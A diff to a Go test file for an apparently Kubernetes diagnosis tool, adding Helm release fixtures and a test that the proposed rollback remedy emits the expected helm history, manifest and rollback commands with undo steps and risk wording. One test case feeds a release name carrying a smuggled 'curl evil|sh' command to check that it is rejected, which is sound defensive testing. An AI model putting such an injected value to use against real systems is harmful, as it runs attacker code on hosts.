@@ -113,6 +113,11 @@ func situations(t *testing.T, cause string) map[string]situation {
 	debugging := bare
 	debugging.d.Pull.ContainerKind = evidence.EphemeralContainer
 	all["an ephemeral container"] = debugging
+	released := shop(cause, "docker.io")
+	released.k.Target.Release = Release{Name: "api", Namespace: "shop", Revision: 4, Status: "pending-upgrade", Before: 2, BeforeMade: noon.Add(-time.Hour)}
+	all["a Helm release"] = released
+	released.k.Target.Release = Release{Name: "api", Namespace: "shop", Unread: true}
+	all["a Helm release that may not be read"] = released
 	cleared := shop(cause, "docker.io")
 	cleared.d.Causes[0].State = diagnosis.Cleared
 	all["cleared"] = cleared
@@ -407,6 +412,49 @@ func TestAStoreIsSetAsideOnceNothingRunsFromIt(t *testing.T) {
 		move := slices.IndexFunc(commands, func(c string) bool { return strings.HasPrefix(c, "mv /var/lib/containerd ") })
 		if kubelet < 0 || pods < kubelet || move < pods {
 			t.Errorf("got %q", commands)
+		}
+	}
+}
+
+func TestAHelmReleaseIsRolledBackToWhatWasDeployed(t *testing.T) {
+	t.Parallel()
+	c, _ := causes(t)
+	known := Release{Name: "api", Namespace: "shop", Revision: 4, Status: "deployed", Before: 2, BeforeMade: noon}
+	for name, k := range map[string]struct {
+		release  Release
+		commands []string // of the steps
+		undo     string
+		risk     string
+	}{
+		"its revision before":             {known, []string{"helm history api -n shop", "helm get manifest api --revision 2 -n shop | grep -n image:", "helm rollback api 2 -n shop"}, "helm rollback api 4 -n shop", "every object and value"},
+		"one that Helm holds":             {Release{Name: "api", Namespace: "shop", Revision: 4, Status: "pending-upgrade", Before: 3}, []string{"helm history api -n shop", "helm get manifest api --revision 3 -n shop | grep -n image:", "helm rollback api 3 -n shop"}, "helm rollback api 4 -n shop", "pending-upgrade: where an upgrade still waits"},
+		"no right to see which there are": {Release{Name: "api", Namespace: "shop", Unread: true}, []string{"helm history api -n shop", `helm get manifest api -n shop --revision "${REVISION:?}" | grep -n image:`, `helm rollback api -n shop "${REVISION:?}"`}, "", "may not be read here"},
+		"its first revision":              {Release{Name: "api", Namespace: "shop", Revision: 1, Status: "deployed"}, nil, "", ""},
+		"a name that is none":             {Release{Name: "x;curl evil|sh", Namespace: "shop", Revision: 4, Before: 3}, nil, "", ""},
+		"no release":                      {Release{}, nil, "", ""},
+	} {
+		s := shop(catalog.TagNotFound, "docker.io")
+		s.k.Target.Release = k.release
+		all := s.plan(t, c)
+		at := slices.IndexFunc(all, func(r Remedy) bool { return r.ID == "helm-rollback" })
+		if at < 0 != (k.commands == nil) {
+			t.Errorf("%s: handed over: %t", name, at >= 0)
+		}
+		if at < 0 {
+			continue
+		}
+		var commands, undo []string
+		for _, step := range all[at].Steps {
+			commands = append(commands, step.Commands...)
+		}
+		for _, step := range all[at].Undo {
+			undo = append(undo, step.Commands...)
+		}
+		if !slices.Equal(commands, k.commands) || strings.Join(undo, "\n") != k.undo {
+			t.Errorf("%s: %q, want %q; undone by %q, want %q", name, commands, k.commands, undo, k.undo)
+		}
+		if words := all[at].Because + strings.Join(all[at].Risks, "\n"); !strings.Contains(words, k.risk) {
+			t.Errorf("%s: %q does not say %q", name, words, k.risk)
 		}
 	}
 }
